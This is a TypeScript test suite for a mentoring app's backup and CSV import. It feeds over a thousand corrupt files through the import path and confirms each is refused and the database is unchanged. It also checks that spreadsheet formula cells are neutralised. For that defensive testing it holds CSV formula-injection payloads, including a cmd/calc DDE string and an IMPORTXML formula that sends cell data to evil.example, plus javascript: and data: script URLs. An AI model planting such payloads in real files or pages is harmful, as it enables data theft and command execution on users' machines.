// Corrupt import files through the app's real import path, against a database with data in it:
// the bytes are read (readImportFile), planned against what is stored (readImportBasis +
// planImportFromText), and applied (applyImport) whenever a plan comes back, exactly as
// components/tracking/DataSettings.tsx does. Every one of well over 1,000 generated files must be
// refused with a clear message in plain words, and the database must be exactly as it was
// (dumpAll before and after, deep-equal). Also: formula cells stay inert text through import and
// come out neutralised by the CSV export (listPeople + peopleToCsv, as the Settings screen does).
// tests/unit/backup/corrupt-inputs.test.ts checks the parsers alone; this adds the database, the
// apply step and the wording. Seeded: a failure repeats, and is named by its kind and number.
import { isDeepStrictEqual } from 'node:util';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BACKUP_VERSION, MAX_BACKUP_BYTES } from '../../../utils/backup/backup-format';
import { CSV_COLUMNS, CSV_LIMITS, peopleToCsv } from '../../../utils/backup/csv';
import { decodeTextFile } from '../../../utils/backup/decode';
import { fileSizeProblem, readImportFile } from '../../../utils/backup/import-file';
import { planImportFromText } from '../../../utils/backup/import-plan';
import { describeStorageError } from '../../../utils/db/errors';
import { listPeople, saveCapture, updatePerson } from '../../../utils/db/people';
import { dumpAll, type StoreDump } from '../../../utils/db/records';
import { exportBackup, restoreAllData } from '../../../utils/db/backup';
import { applyImport, readImportBasis } from '../../../utils/db/import';
import type { MentorScoutDb } from '../../../utils/db/database';
import { emptyProfile } from '../../../utils/schema/profile';
import { seededRandom } from '../builders';
import { closeDatabases, freshDb } from '../db/helpers';
import { otherBrowser, sampleContents, seed } from './data';

const NOW = '2026-05-01T12:00:00.000Z';

let db: MentorScoutDb;
let before: StoreDump;
/** The other browser's backup and people CSV, written by the app's own export functions. */
let BACKUP = '';
let CSV = '';

beforeAll(async () => {
  const source = (await freshDb()).db;
  await seed(source, otherBrowser());
  BACKUP = (await exportBackup(new Date(NOW), source)).text;
  CSV = peopleToCsv((await listPeople(source)).people);
  db = (await freshDb()).db;
  await seed(db, sampleContents());
  before = await dumpAll(db);
});
afterAll(closeDatabases);

type Outcome = { applied: true } | { applied: false; stage: 'decode' | 'plan' | 'apply'; error: string };

/** The import button, step by step (DataSettings.tsx chooseFile, then apply). */
async function importFile(file: string | Uint8Array, target: MentorScoutDb = db, fileName = 'mentor-scout-backup.json'): Promise<Outcome> {
  const bytes = typeof file === 'string' ? new TextEncoder().encode(file) : file;
  const tooLarge = fileSizeProblem(fileName, bytes.length);
  if (tooLarge) return { applied: false, stage: 'decode', error: tooLarge };
  const read = readImportFile(bytes, fileName);
  if (!read.ok) return { applied: false, stage: 'decode', error: read.error };
  const basis = await readImportBasis(target);
  const plan = planImportFromText(basis, read.text, { now: NOW, format: read.format });
  if (!plan.ok) return { applied: false, stage: 'plan', error: plan.error };
  try {
    await applyImport(plan, { restoreSettings: true, fileName }, target);
    return { applied: true };
  } catch (error) {
    return { applied: false, stage: 'apply', error: describeStorageError(error) };
  }
}

/**
 * Words that belong to code, not to a message for the mentee: stack frames, error class names,
 * engine messages, zod issue codes, JavaScript values.
 */
const CODE_WORDS =
  /\n\s*at\s|\bat\s\S+\s\(|\.(?:ts|js|mjs):\d+|\b(?:TypeError|RangeError|SyntaxError|ReferenceError|ZodError|DOMException|Error:|undefined|NaN|Unexpected token|Unexpected end|JSON\.parse|Cannot read|is not a function|is not defined|is not valid JSON|invalid_type|invalid_value|invalid_format|invalid_union|too_big|too_small|unrecognized_keys|expected \w+, received)\b|\[object \w+\]/;

/** Why a refusal message is not a clear one, or null when it is. */
function unclear(message: string): string | null {
  if (!message || !message.trim()) return 'no message';
  if (CODE_WORDS.test(message)) return `code words: ${message.slice(0, 300)}`;
  if (!/^[A-Z“"]/.test(message.trim())) return `not a sentence: ${message.slice(0, 200)}`;
  if (message.length > 2_000) return `too long (${message.length} characters)`;
  // Issue #9, item 13: every message ends as a sentence does.
  if (!/[.!?…]["”’)]*$/.test(message.trim())) return `no final period: ${message.slice(-120)}`;
  return null;
}

let refused = 0;

/**
 * Feeds every file through the import path. Collects the files that were imported, refused without
 * a clear message, or that changed the database (which is then put back, so one failure does not
 * hide the others). At most 12 failures are listed, then their count.
 */
async function expectRefusedAndUnchanged(kind: string, files: (string | Uint8Array)[], fileName = 'mentor-scout-backup.json'): Promise<void> {
  const wrong: string[] = [];
  for (const [i, file] of files.entries()) {
    const excerpt = typeof file === 'string' ? JSON.stringify(file.slice(0, 80)) : `${file.length} bytes`;
    let outcome: Outcome;
    try {
      outcome = await importFile(file, db, fileName);
    } catch (error) {
      wrong.push(`${kind} #${i}: threw ${String(error).slice(0, 200)} (${excerpt})`);
      outcome = { applied: false, stage: 'plan', error: 'threw' };
    }
    if (outcome.applied) wrong.push(`${kind} #${i}: imported (${excerpt})`);
    else {
      const problem = unclear(outcome.error);
      if (problem) wrong.push(`${kind} #${i} (${outcome.stage}): ${problem}`);
    }
    if (!isDeepStrictEqual(await dumpAll(db), before)) {
      wrong.push(`${kind} #${i}: the database changed (${excerpt})`);
      await restoreAllData(before, { replace: true }, db);
    }
  }
  refused += files.length;
  const shown = wrong.length > 12 ? [...wrong.slice(0, 12), `…and ${wrong.length - 12} more of ${files.length}`] : wrong;
  expect(shown).toEqual([]);
}

const pick = <T>(random: () => number, list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
const int = (random: () => number, max: number) => Math.floor(random() * max);

type Json = any; // eslint-disable-line @typescript-eslint/no-explicit-any

/** Paths to every value inside a JSON value (the root excluded). */
function paths(value: Json, at: (string | number)[] = []): (string | number)[][] {
  if (!value || typeof value !== 'object') return [];
  const entries: [string | number, Json][] = Array.isArray(value) ? value.map((v, i) => [i, v]) : Object.entries(value);
  return entries.flatMap(([key, v]) => [[...at, key], ...paths(v, [...at, key])]);
}
const getAt = (root: Json, path: (string | number)[]) => path.reduce((node, key) => node?.[key], root);
function setAt(root: Json, path: (string | number)[], value: unknown): void {
  const parent = getAt(root, path.slice(0, -1));
  parent[path[path.length - 1]!] = value;
}

/** A value no schema field of the original's type accepts. */
function wrongType(value: unknown): unknown {
  if (typeof value === 'string') return pick(seededRandom(value.length), [42, true, null, ['text'], { text: value }]);
  if (typeof value === 'number') return pick(seededRandom(value), [`${value}`, null, [value], false]);
  if (typeof value === 'boolean') return value ? 'true' : 0;
  if (Array.isArray(value)) return { 0: value[0] ?? 'x', length: value.length };
  if (value === null) return {};
  return [value];
}

function mutate(change: (raw: Json) => void): string {
  const raw = JSON.parse(BACKUP);
  change(raw);
  return JSON.stringify(raw, null, 2);
}

const COLLECTIONS = ['people', 'snapshots', 'pageSections', 'events', 'drafts', 'meetings', 'templates'] as const;
const OWNED = ['snapshots', 'pageSections', 'events', 'drafts', 'meetings'] as const;

describe('the files these corruptions start from are good ones', () => {
  it('the other browser’s backup and CSV import for real and change the database (so a wrongly accepted file would show)', async () => {
    for (const [file, name] of [
      [BACKUP, 'mentor-scout-backup-2026-05-01.json'],
      [CSV, 'mentor-scout-people-2026-05-01.csv'],
    ]) {
      const { db: scratch } = await freshDb();
      await seed(scratch, sampleContents());
      const start = await dumpAll(scratch);
      expect(await importFile(file!, scratch, name)).toEqual({ applied: true });
      const after = await dumpAll(scratch);
      expect(isDeepStrictEqual(after, start)).toBe(false);
      expect(after.people.length).toBe(start.people.length + 2);
    }
  });
});

describe('corrupt backups: refused in plain words, nothing stored', () => {
  const random = seededRandom(0x5eed_0001);

  it('cut off at 200 random points', async () => {
    await expectRefusedAndUnchanged('truncated', Array.from({ length: 200 }, () => BACKUP.slice(0, 1 + int(random, BACKUP.length - 2))));
  });

  it('a stray character breaking the JSON at 150 random places', async () => {
    const strays = ['"', '{', '}', '[', ']', ',', ':', 'x', 'N', '\\', '\u0001', 'tru', '-'];
    const files: string[] = [];
    while (files.length < 150) {
      const at = int(random, BACKUP.length);
      const file = BACKUP.slice(0, at) + pick(random, strays) + BACKUP.slice(at + (random() < 0.5 ? 1 : 0));
      try {
        JSON.parse(file);
      } catch {
        files.push(file); // only files that really are broken JSON
      }
    }
    await expectRefusedAndUnchanged('stray character', files);
  });

  it('a value of the wrong type somewhere, 200 times', async () => {
    const files = Array.from({ length: 200 }, () =>
      mutate((raw) => {
        const where = random() < 0.85 ? pick(random, raw[pick(random, COLLECTIONS)] as Json[]) : raw;
        const path = pick(random, paths(where));
        setAt(where, path, wrongType(getAt(where, path)));
      }),
    );
    await expectRefusedAndUnchanged('wrong type', files);
  });

  it('a wrong, missing or future version, or no format, 50 times', async () => {
    // Relative to the current version: any number above it is a file from a newer install.
    const versions = [0, -1, 1.5, '1', null, true, [], {}, BACKUP_VERSION + 1, BACKUP_VERSION + 2, 99, 1e9];
    const files = Array.from({ length: 50 }, (_, i) =>
      mutate((raw) => {
        if (i % 5 === 4) raw.format = pick(random, [undefined, 'mentor-scout', 'Mentor Scout backup', 1]);
        else if (i % 5 === 3) delete raw.version;
        else raw.version = versions[i % versions.length];
      }),
    );
    await expectRefusedAndUnchanged('version', files);
  });

  it('a huge string (1 MB) in a random text field, 80 times', async () => {
    const huge = 'Ω'.repeat(1_000_000);
    const files = Array.from({ length: 80 }, () =>
      mutate((raw) => {
        const record = pick(random, raw[pick(random, COLLECTIONS)] as Json[]);
        setAt(record, pick(random, paths(record).filter((p) => typeof getAt(record, p) === 'string')), huge);
      }),
    );
    await expectRefusedAndUnchanged('huge string', files);
  });

  it('duplicate people and ids, records of people or snapshots not in the file, 100 times', async () => {
    const files = Array.from({ length: 100 }, (_, i) =>
      mutate((raw) => {
        switch (i % 4) {
          case 0: {
            const list = raw[pick(random, COLLECTIONS)] as Json[];
            list.splice(int(random, list.length + 1), 0, structuredClone(pick(random, list)));
            break;
          }
          case 1: {
            const twin = structuredClone(pick(random, (raw.people as Json[]).filter((p) => p.profileUrl)));
            raw.people.push({ ...twin, id: `p:twin-${i}`, notes: 'Another copy.' });
            break;
          }
          case 2:
            pick(random, raw[pick(random, OWNED)] as Json[]).personId = `p:ghost-${i}`;
            break;
          default:
            pick(random, raw.pageSections as Json[]).snapshotId = `snap:ghost-${i}`;
        }
      }),
    );
    await expectRefusedAndUnchanged('duplicate or dangling', files);
  });

  it('the wrong encoding, 100 files: UTF-16 without its mark, odd UTF-16, Latin-1, invalid bytes', async () => {
    const utf8 = new TextEncoder().encode(BACKUP);
    const utf16le = (text: string) => {
      const out = new Uint8Array(text.length * 2);
      for (let i = 0; i < text.length; i++) {
        out[i * 2] = text.charCodeAt(i) & 0xff;
        out[i * 2 + 1] = text.charCodeAt(i) >> 8;
      }
      return out;
    };
    const latin1 = (text: string) => Uint8Array.from([...text].map((c) => (c.codePointAt(0)! < 256 ? c.codePointAt(0)! : 0x3f)));
    const files: Uint8Array[] = [];
    for (let i = 0; i < 100; i++) {
      switch (i % 4) {
        case 0:
          files.push(utf16le(BACKUP.slice(0, 200 + int(random, 4000)))); // no byte-order mark
          break;
        case 1:
          files.push(Uint8Array.from([0xff, 0xfe, ...utf16le(BACKUP).slice(0, 2 * (100 + int(random, 2000)) + 1)])); // odd length
          break;
        case 2:
          files.push(latin1(mutate((raw) => (raw.people[0].profile.name = `Zoë Brontë ${i}`)))); // ë as one Latin-1 byte
          break;
        default: {
          const copy = Array.from(utf8);
          copy.splice(int(random, copy.length), 0, pick(random, [0xff, 0xfe, 0xc3, 0x80, 0xed, 0xf8]), pick(random, [0x28, 0xff, 0x41]));
          files.push(Uint8Array.from(copy));
        }
      }
    }
    await expectRefusedAndUnchanged('encoding', files);
  });

  it('JSON that is not a backup, and random bytes, 40 times', async () => {
    const files: (string | Uint8Array)[] = ['{}', '[]', '{"format":"mentor-scout-backup"}', '[{"format":"mentor-scout-backup","version":1}]', '{"people":[]}', 'null', '42', '"text"', '', ' ', '\uFEFF'];
    while (files.length < 40) files.push(Uint8Array.from({ length: 1 + int(random, 600) }, () => int(random, 256)));
    await expectRefusedAndUnchanged('not a backup', files);
  });
});

/** A CSV of `rows` new, valid people (each import of it alone would add them all). */
function csvRows(random: () => number, rows: number): string[][] {
  const names = ['Ada Quill', 'Zoë Brontë', 'Kofi Mensah', 'Łucja Wójcik', 'Mei Tanaka', 'Ravi Iyer'];
  return [
    [...CSV_COLUMNS],
    ...Array.from({ length: rows }, (_, i) => [
      `${pick(random, names)} ${i}`,
      'Engineering manager',
      'Examplecorp',
      'Berlin',
      `https://people.example/${i}-${int(random, 1e6)}`,
      pick(random, ['saved', 'sent', 'Replied', '']),
      pick(random, ['2026-03-01', '2026-03-01T09:00:00Z', '']),
      'Met at a meetup',
      'platform; berlin',
    ]),
  ];
}
const toCsv = (rows: string[][], delimiter = ',') =>
  rows.map((cells) => cells.map((c) => (/[",\r\n;]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(delimiter)).join('\r\n') + '\r\n';

describe('corrupt people CSVs: refused in plain words, nothing stored', () => {
  const random = seededRandom(0x5eed_0002);

  it('the files these start from import for real', async () => {
    const { db: scratch } = await freshDb();
    await seed(scratch, sampleContents());
    expect(await importFile(toCsv(csvRows(random, 5)), scratch, 'people.csv')).toEqual({ applied: true });
    expect((await dumpAll(scratch)).people.length).toBe(before.people.length + 5);
  });

  it('broken quoting at 150 random places', async () => {
    const files = Array.from({ length: 150 }, (_, i) => {
      const rows = csvRows(random, 3 + int(random, 8));
      const row = 1 + int(random, rows.length - 1);
      const column = int(random, CSV_COLUMNS.length);
      const cell = rows[row]![column]!.replace(/[",]/g, '');
      // Unclosed; text after the closing quote; an undoubled quote inside a quoted cell (twice).
      const broken = [`"${cell}`, `"${cell}"x`, `"${cell}"" and more`, `"${cell.slice(0, 2)} "said" ${cell.slice(2)}"`][i % 4]!;
      return rows.map((cells, r) => cells.map((c, col) => (r === row && col === column ? broken : /[",;]/.test(c) ? `"${c}"` : c)).join(',')).join('\r\n') + '\r\n';
    });
    await expectRefusedAndUnchanged('broken quoting', files, 'people.csv');
  });

  it('cells that do not fit the header, a missing or doubled name column, 80 times', async () => {
    const files = Array.from({ length: 80 }, (_, i) => {
      const rows = csvRows(random, 2 + int(random, 6));
      switch (i % 4) {
        case 0:
          rows[1 + int(random, rows.length - 1)]!.splice(int(random, CSV_COLUMNS.length), 1); // a cell short
          break;
        case 1:
          rows[1 + int(random, rows.length - 1)]!.push('one too many');
          break;
        case 2:
          rows[0]![0] = pick(random, ['full name?', 'Nom', '', 'names']);
          break;
        default:
          rows[0]![1] = 'name';
      }
      return toCsv(rows);
    });
    await expectRefusedAndUnchanged('shape', files, 'people.csv');
  });

  it('values of the wrong kind: status, dates, addresses, tags, 100 times', async () => {
    const bad: [number, string][] = [
      [5, 'banana'],
      [5, 'SENT!'],
      [6, 'yesterday'],
      [6, '2026-02-31'],
      [6, '31/12/2026'],
      [6, '1969-12-31'],
      [4, 'javascript:alert(1)'],
      [4, 'data:text/html,<script>alert(1)</script>'],
      [4, 'ftp://people.example/x'],
      [4, 'not an address'],
      [8, Array.from({ length: 51 }, (_, i) => `tag${i}`).join('; ')],
      [8, 't'.repeat(61)],
      [0, ''],
      [0, '   '],
    ];
    const files = Array.from({ length: 100 }, (_, i) => {
      const rows = csvRows(random, 1 + int(random, 6));
      const [column, value] = bad[i % bad.length]!;
      rows[1 + int(random, rows.length - 1)]![column] = value;
      return toCsv(rows);
    });
    await expectRefusedAndUnchanged('bad value', files, 'people.csv');
  });

  it('huge cells, too many columns, too many rows: 40 files', async () => {
    const caps = [
      [0, 301],
      [1, 601],
      [2, 301],
      [3, 301],
      [7, 20_001],
      [4, 2_100],
    ] as const;
    const files: string[] = Array.from({ length: 36 }, (_, i) => {
      const rows = csvRows(random, 2);
      const [column, length] = caps[i % caps.length]!;
      rows[1 + int(random, 2)]![column] = column === 4 ? `https://people.example/${'a'.repeat(length)}` : 'W'.repeat(length + int(random, 1_000_000));
      return toCsv(rows);
    });
    const wide = csvRows(random, 2).map((cells, r) => [...cells, ...Array.from({ length: CSV_LIMITS.columns }, (_, i) => (r === 0 ? `extra${i}` : 'x'))]);
    files.push(toCsv(wide), toCsv(wide, ';'));
    const head = `${CSV_COLUMNS.join(',')}\r\n`;
    files.push(head + 'Ada Quill,,,,,,,,\r\n'.repeat(CSV_LIMITS.rows + 1), head + `${'x'.repeat(CSV_LIMITS.chars + 1)}\r\n`);
    await expectRefusedAndUnchanged('huge', files, 'people.csv');
  });

  it('the same person twice with different details, 60 times', async () => {
    const files = Array.from({ length: 60 }, (_, i) => {
      const rows = csvRows(random, 2 + int(random, 5));
      const twin = [...rows[1]!];
      twin[1] = `${twin[1]} (other copy)`;
      if (i % 3 === 1) {
        // No address: the same name and company identify the person.
        rows[1]![4] = '';
        twin[4] = '';
      } else if (i % 3 === 2) {
        // The same LinkedIn member written two ways.
        rows[1]![4] = `https://www.linkedin.com/in/twin-${i}/`;
        twin[4] = `https://uk.linkedin.com/in/Twin-${i}?trk=x`;
      }
      rows.splice(2 + int(random, rows.length - 1), 0, twin);
      return toCsv(rows);
    });
    await expectRefusedAndUnchanged('duplicate person', files, 'people.csv');
  });

  it('the wrong encoding, 80 files: UTF-16 without its mark, Windows-1252, replacement characters', async () => {
    const files: (string | Uint8Array)[] = [];
    for (let i = 0; i < 80; i++) {
      const text = toCsv(csvRows(random, 1 + int(random, 4)).map((cells, r) => (r === 1 ? [`Zoë “Z” Brontë ${i}`, ...cells.slice(1)] : cells)));
      if (i % 3 === 0) {
        files.push(Uint8Array.from([...text].flatMap((c) => [c.charCodeAt(0) & 0xff, c.charCodeAt(0) >> 8])));
      } else if (i % 3 === 1) {
        const cp1252: Record<string, number> = { '“': 0x93, '”': 0x94, ë: 0xeb };
        files.push(Uint8Array.from([...text].map((c) => cp1252[c] ?? c.charCodeAt(0))));
      } else {
        files.push(text.replace('ë', '\uFFFD')); // decoded leniently somewhere before us
      }
    }
    await expectRefusedAndUnchanged('CSV encoding', files, 'people.csv');
  });

  it('formula cells (=, +, -, @, tab, CR) in files that are broken elsewhere, 50 times', async () => {
    const formulas = ['=HYPERLINK("https://evil.example","Open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', "=IMPORTXML(CONCAT(\"https://evil.example/?\",A2),\"//a\")"];
    const files = Array.from({ length: 50 }, (_, i) => {
      const rows = csvRows(random, 2 + int(random, 4));
      for (const cells of rows.slice(1)) cells[pick(random, [0, 1, 2, 3, 7])] = `${pick(random, formulas)} ${i}`;
      const row = rows[1 + int(random, rows.length - 1)]!;
      if (i % 2) row[5] = 'maybe';
      else row.pop();
      return toCsv(rows);
    });
    await expectRefusedAndUnchanged('formula in a broken file', files, 'people.csv');
  });
});

describe('a plan that went stale before it was applied', () => {
  it('is refused in plain words when a person it writes changed meanwhile, and nothing of it is stored', async () => {
    const { db: scratch } = await freshDb();
    await seed(scratch, sampleContents());
    const decoded = decodeTextFile(new TextEncoder().encode(BACKUP));
    if (!decoded.ok) throw new Error(decoded.error);
    const plan = planImportFromText(await readImportBasis(scratch), decoded.text, { now: NOW });
    if (!plan.ok) throw new Error(plan.error);
    // Another window changes one of the people the plan updates, after the plan was shown.
    await updatePerson('li:ada-example', (p) => ({ ...p, notes: 'Typed in the side panel meanwhile.', updatedAt: NOW }), scratch);
    const changed = await dumpAll(scratch);
    let message = '';
    await applyImport(plan, { restoreSettings: true }, scratch).catch((error: unknown) => (message = describeStorageError(error)));
    expect(unclear(message)).toBeNull();
    expect(message).toMatch(/nothing was imported/);
    expect(await dumpAll(scratch)).toEqual(changed);
  });
});

describe('formula injection', () => {
  const FORMULAS = {
    name: '=HYPERLINK("https://evil.example","Ada")',
    headline: '+1 555 0100 cmd',
    company: '-Acme',
    location: '@Berlin',
    notes: '\t=1+1\rand more',
    tags: ['=SUM(A1:A9)', '@here'],
  };

  it('formula cells from another tool import as the same inert text, and the export neutralises them', async () => {
    const { db: scratch } = await freshDb();
    await seed(scratch, sampleContents());
    const row = [FORMULAS.name, FORMULAS.headline, FORMULAS.company, FORMULAS.location, 'https://formula.example/ada', 'sent', '2026-03-01', FORMULAS.notes, FORMULAS.tags.join('; ')];
    const start = await dumpAll(scratch);
    expect(await importFile(toCsv([[...CSV_COLUMNS], row]), scratch, 'people.csv')).toEqual({ applied: true });
    const after = await dumpAll(scratch);
    // Everyone saved before is exactly as they were; the one new person holds the cells as typed.
    expect(after.people.filter((p) => start.people.some((q) => isDeepStrictEqual(p, q)))).toHaveLength(start.people.length);
    const added = (await listPeople(scratch)).people.find((p) => p.profileUrl === 'https://formula.example/ada')!;
    expect(added).toMatchObject({
      profile: { name: FORMULAS.name, headline: FORMULAS.headline, company: FORMULAS.company, location: FORMULAS.location },
      notes: FORMULAS.notes,
      tags: FORMULAS.tags,
    });

    // A captured page can carry them too: saved from a profile whose fields start with triggers.
    await saveCapture(
      {
        profile: { ...emptyProfile('web'), name: '@Mallory', headline: '=cmd|\' /C calc\'!A0', company: '-2+3', location: '-1', profileUrl: 'https://mallory.example/about' },
        sourceUrl: 'https://mallory.example/about',
      },
      scratch,
    );
    const mallory = (await listPeople(scratch)).people.find((p) => p.profile.name === '@Mallory')!;
    await updatePerson(mallory.id, (p) => ({ ...p, notes: '\r=2+2 from the notes' }), scratch);

    // The Settings screen's CSV export: listPeople, then peopleToCsv.
    const csv = peopleToCsv((await listPeople(scratch)).people);
    const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const cells = parsed.data.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    for (const text of [FORMULAS.name, FORMULAS.headline, FORMULAS.company, FORMULAS.location, FORMULAS.notes, '@Mallory', "=cmd|' /C calc'!A0", '-2+3', '-1', '\r=2+2 from the notes']) {
      expect(cells, text).toContain(`'${text}`);
    }

    // Importing that export again changes nothing: the apostrophes come off, the text is the same.
    const beforeReimport = await dumpAll(scratch);
    const basis = await readImportBasis(scratch);
    const { people } = basis;
    // Mallory was saved on the real clock, so the re-import happens on it too (a later time is refused as in the future).
    const plan = planImportFromText(basis, csv, { now: new Date().toISOString() });
    expect(plan.ok && plan.counts).toEqual({ add: 0, update: 0, skip: people.length });
    expect(await dumpAll(scratch)).toEqual(beforeReimport);
  });

  it(`counted at least 1,000 corrupt files refused with the database unchanged`, () => {
    expect(refused).toBeGreaterThanOrEqual(1_000);
  });
});
